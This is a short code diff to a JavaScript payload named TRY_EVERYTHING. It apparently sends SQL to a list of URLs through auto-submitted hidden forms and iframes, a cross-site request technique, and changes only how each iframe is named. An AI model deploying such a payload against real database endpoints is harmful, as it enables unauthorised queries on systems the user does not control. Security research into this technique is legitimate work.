@@ -35,7 +35,7 @@ export const TRY_EVERYTHING = `async (urls, sql) => {
     await new Promise((resolve) => {
       const frame = document.createElement('iframe');
       const form = document.createElement('form');
-      frame.name = 'frame' + Math.random();
+      frame.name = 'frame' + document.forms.length;
       Object.assign(form, { method: 'post', enctype: 'text/plain', action: query, target: frame.name });
       document.body.append(frame, form);
       form.submit();
